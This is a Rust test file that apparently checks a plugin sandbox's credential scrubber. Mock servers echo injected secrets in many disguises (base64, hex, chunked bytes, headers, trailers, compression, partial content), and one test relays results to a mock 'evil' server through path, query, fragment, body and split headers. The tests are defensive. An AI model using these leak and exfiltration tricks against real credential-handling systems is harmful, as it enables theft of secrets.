//! Servers that give the credential back, in every dress that the scrubber knows; and ways to carry
//! what came back to the attacker. What must happen in all of them: the plugin never sees it.

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use serde_json::json;

use crate::attacks;
use crate::servers::{chunked, reply};
use crate::world::{World, secret};

/// What the trusted server answers: the request that it got, as the path says.
pub(crate) fn answer(request: &str) -> Vec<Vec<u8>> {
    let target = request.split(' ').nth(1).unwrap_or_default();
    let (path, query) = target.split_once('?').unwrap_or((target, ""));
    let flat = request.replace("\r\n", " ");
    let bytes = request.as_bytes();
    let hex = |join: &str| -> String { bytes.iter().map(|b| format!("{join}{b:02x}")).collect() };
    match path.rsplit('/').next().unwrap_or_default() {
        "plain" => reply("", bytes),
        "base64-0" => reply("", STANDARD.encode(request).as_bytes()),
        "base64-1" => reply("", STANDARD.encode(format!("-{request}")).as_bytes()),
        "base64-2" => reply(
            "",
            URL_SAFE_NO_PAD.encode(format!("--{request}")).as_bytes(),
        ),
        "hex" => reply("", hex("").as_bytes()),
        "percent" => reply("", hex("%").as_bytes()),
        "json" => reply(
            "content-type: application/json\r\n",
            json!({ "got": request }).to_string().as_bytes(),
        ),
        "bytewise" => {
            let bytes: Vec<&[u8]> = bytes.chunks(1).collect();
            chunked("", &bytes, "")
        }
        "thirds" => chunked(
            "",
            &bytes.chunks(bytes.len() / 3 + 1).collect::<Vec<_>>(),
            "",
        ),
        "headers" => reply(
            &format!(
                "x-echo: {flat}\r\nset-cookie: t={flat}\r\nlocation: /?t={flat}\r\nwww-authenticate: {flat}\r\n"
            ),
            b"",
        ),
        "header-name" => {
            let token = ["Bearer ", "Basic ", "x-key: Key ", "?key="]
                .into_iter()
                .find_map(|before| request.split(before).nth(1))
                .and_then(|rest| rest.split(['\r', ' ']).next())
                .unwrap_or_default();
            let name = token.trim_end_matches('=');
            reply(&format!("x-{name}: 1\r\n{name}-x: 2\r\n"), b"")
        }
        "reason" => vec![format!("HTTP/1.1 200 {flat}\r\ncontent-length: 0\r\n\r\n").into_bytes()],
        "hints" => {
            let hints = format!("HTTP/1.1 103 Early Hints\r\nlink: {flat}\r\n\r\n");
            [vec![hints.into_bytes()], reply("", b"")].concat()
        }
        "trailers" => chunked(
            "trailer: x-echo\r\n",
            &[b"x"],
            &format!("x-echo: {flat}\r\n"),
        ),
        "error" => vec![format!("HTTP/1.1 {flat}\r\n\r\n").into_bytes()],
        "gzip" => reply("content-encoding: gzip\r\n", bytes),
        "encodings" => reply(
            "content-encoding: identity\r\ncontent-encoding: x\r\n",
            bytes,
        ),
        "transfer" => chunked("transfer-encoding: gzip, chunked\r\n", &[bytes], ""),
        "part" => {
            let part = format!(
                "HTTP/1.1 206 Partial Content\r\ncontent-range: bytes 0-9/99\r\ncontent-length: {}\r\n\r\n",
                bytes.len()
            );
            vec![[part.as_bytes(), bytes].concat()]
        }
        "redirect" => vec![
            format!("HTTP/1.1 302 Found\r\nlocation: {query}\r\ncontent-length: 0\r\n\r\n")
                .into_bytes(),
        ],
        "upgrade" => vec![
            b"HTTP/1.1 101 Switching Protocols\r\nupgrade: x\r\nconnection: upgrade\r\n\r\n"
                .to_vec(),
            bytes.to_vec(),
        ],
        "two-answers" => {
            vec![[reply("", b"first").concat(), reply("", b"poison").concat()].concat()]
        }
        "never" => Vec::new(),
        "drip" => vec![b"HTTP/1.1 200 OK\r\ncontent-length: 9\r\n\r\nabc".to_vec()],
        "big" => reply("", &vec![b'b'; query.parse().unwrap_or(0)]),
        _ => reply("", b"hello"),
    }
}

/// Asks for an echo through both doors; gives what the plugin saw.
async fn echo(world: &World, paths: &[&str]) -> String {
    let mut script = Vec::new();
    for path in paths {
        script.push(json!({ "do": "http", "url": format!("{}/v1/{path}", world.trusted.origin()), "attach": "attached" }));
        script.push(json!({ "do": "wasi", "authority": world.trusted.address.to_string(), "path": format!("/v1/{path}") }));
    }
    let told = world.told(script.into()).await;
    assert!(
        world.trusted.received().contains("authorization: Bearer "),
        "no credential arrived"
    );
    format!("{told:?}")
}

/// Asks for every kind of echo below this path, through both doors; gives what the plugin saw.
async fn echoes(world: &World, place: &str) -> String {
    let dresses = [
        "plain",
        "json",
        "base64-0",
        "base64-1",
        "base64-2",
        "hex",
        "percent",
        "bytewise",
        "thirds",
        "headers",
        "header-name",
        "reason",
        "hints",
        "trailers",
    ];
    let mut script = Vec::new();
    for dress in dresses {
        let path = format!("{place}/{dress}");
        script.push(json!({ "do": "http", "url": format!("{}{path}", world.trusted.origin()) }));
        script.push(
            json!({ "do": "wasi", "authority": world.trusted.address.to_string(), "path": path }),
        );
    }
    let told = world.told(script.into()).await;
    assert!(
        told.iter().all(|result| result["ok"]["status"] == 200),
        "{told:?}"
    );
    format!("{told:?}")
}

attacks! {
    echo_in_a_body: "has the server echo the request" => "the credential is replaced by its name", |world| {
        let seen = echo(&world, &["plain", "json"]).await;
        assert!(seen.contains("Bearer [secret api]") && seen.contains("[secret attached]"), "{seen}");
    }
    echo_in_base64: "has the server echo the request in base64, at all three alignments" => "removed", |world| {
        let seen = echo(&world, &["base64-0", "base64-1", "base64-2"]).await;
        assert!(seen.contains("[secret api]"), "{seen}");
    }
    echo_in_hexadecimal: "has the server echo the request in hexadecimal" => "removed", |world| {
        let seen = echo(&world, &["hex"]).await;
        assert!(seen.contains("[secret api]"), "{seen}");
    }
    echo_byte_by_byte: "has the server echo in chunks of one byte, and with borders within the credential" => "removed across borders", |world| {
        let seen = echo(&world, &["bytewise", "thirds"]).await;
        assert!(seen.contains("[secret api]"), "{seen}");
    }
    echo_in_headers: "has the server echo in headers, cookies, a redirect and a challenge" => "removed", |world| {
        let seen = echo(&world, &["headers"]).await;
        assert!(seen.contains("[secret api]"), "{seen}");
    }
    echo_in_the_name_of_a_header: "has the server use the credential as a header's name" => "the header is dropped", |world| {
        let seen = echo(&world, &["header-name"]).await;
        assert!(seen.contains("Number(200)"), "{seen}");
    }
    echo_of_a_parameter: "has the server echo, in every dress, a credential of the query" => "removed, in every dress", |world| {
        let seen = echoes(&world, "/query").await;
        assert!(seen.contains("?key=[secret query]"), "{seen}");
        assert!(world.trusted.received().contains(&format!("/query/plain?key={} ", secret("query"))));
    }
    echo_of_a_password: "has the server echo, in every dress, the token of basic authentication" => "removed, in every dress", |world| {
        let seen = echoes(&world, "/basic").await;
        assert!(seen.contains("Basic [secret basic]"), "{seen}");
        assert!(world.trusted.received().contains("authorization: Basic "));
    }
    echo_of_a_header: "has the server echo, in every dress, a header of the operator's" => "removed, in every dress", |world| {
        let seen = echoes(&world, "/header").await;
        assert!(seen.contains("x-key: Key [secret header]"), "{seen}");
        assert!(world.trusted.received().contains(&format!("x-key: Key {}", secret("header"))));
    }
    echo_of_a_signature: "has the server echo, in every dress, a request that is signed for AWS" => "sees one signature of one request, and nothing of the key", |world| {
        let seen = echoes(&world, "/aws").await;
        assert!(seen.contains("AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/") && !seen.contains("[secret aws]"), "{seen}");
    }
    echo_beside_the_answer: "has the server echo in the reason phrase, early hints and trailers" => "not passed on", |world| {
        let seen = echo(&world, &["reason", "hints", "trailers"]).await;
        assert!(!seen.contains("Bearer"), "{seen}");
    }
    echo_in_what_is_not_http: "has the server answer with nonsense that holds the credential, or change the protocol" => "an error without the server's words, or with them scrubbed", |world| {
        let seen = echo(&world, &["error", "upgrade"]).await;
        assert!(!seen.contains("Number(200)") && !seen.contains("Number(101)"), "{seen}");
    }
    echo_compressed: "has the server answer compressed although it was asked not to, in the content or on the way" => "refused: it cannot be searched", |world| {
        let seen = echo(&world, &["gzip", "encodings", "transfer"]).await;
        assert!(seen.contains("cannot be searched") && !seen.contains("Number(200)"), "{seen}");
    }
    echo_in_parts: "asks for the echo in parts that are shorter than the credential" => "`range` is dropped, and a part that comes all the same is refused", |world| {
        let url = format!("{}/v1/plain", world.trusted.origin());
        let told = world.told(json!([{ "do": "http", "url": url, "headers": [["Range", "bytes=60-66"], ["If-Range", "x"]] }])).await;
        assert!(!told[0]["ok"]["body"].as_str().unwrap().contains("bytes=60"), "{told:?}");
        let seen = echo(&world, &["part"]).await;
        assert!(seen.contains("cannot be searched"), "{seen}");
    }
    echo_remembered: "asks the server for the credential where it is not added, compressed or in parts" => "refused: a server that may have it is asked for whole and plain answers", |world| {
        let origin = world.trusted.origin();
        let told = world.told(json!([{ "do": "http", "url": format!("{origin}/gzip") }, { "do": "http", "url": format!("{origin}/part") }])).await;
        assert!(told.iter().all(|result| result["err"].as_str().is_some_and(|why| why.contains("cannot be searched"))), "{told:?}");
    }
    carried_off: "sends what it saw to its own server: in path, query, fragment, body, two headers" => "there is nothing to carry", |world| {
        let trusted = world.trusted.origin();
        let evil = world.evil.origin();
        let mut script = Vec::new();
        for path in ["plain", "base64-1", "hex", "bytewise", "headers"] {
            let from = script.len();
            let pick = if path == "headers" { "/ok/headers" } else { "/ok/body" };
            script.push(json!({ "do": "http", "url": format!("{trusted}/v1/{path}") }));
            for (url, headers, body) in [
                ("/p/SEEN", json!([]), None),
                ("/q?x=SEEN", json!([]), None),
                ("/f#SEEN", json!([]), None),
                ("/b", json!([]), Some("SEEN")),
                ("/h", json!([["x-one", "HALF1"], ["x-two", "HALF2"]]), None),
            ] {
                script.push(json!({ "do": "relay", "from": from, "pick": pick, "url": format!("{evil}{url}"), "headers": headers, "body": body }));
            }
        }
        world.told(script.into()).await;
        let got = world.evil.received();
        for arrived in ["POST /p/", "POST /q?x=", "POST /f HTTP/1.1", "POST /b HTTP/1.1", "x-one: ", "x-two: ", "[secret api]"] {
            assert!(got.contains(arrived), "{arrived}: {got}");
        }
    }
}
